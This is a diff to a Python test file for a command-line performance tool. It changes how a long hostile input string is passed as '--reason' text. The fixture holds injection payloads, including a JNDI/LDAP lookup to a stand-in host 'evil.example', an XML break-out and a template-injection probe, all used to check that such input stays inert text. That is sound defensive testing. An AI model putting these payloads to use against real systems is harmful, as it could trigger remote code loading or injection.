@@ -45,6 +45,7 @@ NAMES = (
     "]]><x/><!-- ${jndi:ldap://evil.example} {{ 7*7 }} %s %(x)s {0}",
 )
 ALL = " ".join(name for name in NAMES if len(name) < 1000) + "x" * 10_000
+SAID = ALL.replace("\0", "")  # no operating system hands a null character to a command
 SLOWER = 1.5
 AT, LAST = 26, 34  # the run that begins the event, and the number of runs
 
@@ -345,7 +346,7 @@ def filled(words, house):
 def reasons(house):
     """A pinned baseline and an acknowledged event, for hostile reasons, by hostile people."""
     place = ("--settings", house.folder / "perfkit.toml", "--store", house.store.url)
-    given = (f"--reason={ALL}", f"--by={NAMES[6]}")
+    given = (f"--reason={SAID}", f"--by={NAMES[6]}")
     told = [
         said("baseline", "pin", "anchor", *house.ids[:12], *given, *place),
         said("runs", "quarantine", house.ids[5], *given, *place),
@@ -379,7 +380,7 @@ def test_names_are_nothing_but_names(words, here, results, reasons):
 
 def test_an_acknowledged_event_is_told_as_text(here, results):
     file = here.folder / "acknowledged.json"
-    code, out, err = said("ack", here.ids[AT], f"--reason={ALL}", f"--by={NAMES[6]}")
+    code, out, err = said("ack", here.ids[AT], f"--reason={SAID}", f"--by={NAMES[6]}")
     try:
         assert code == 0, err
         check_text(out + err)
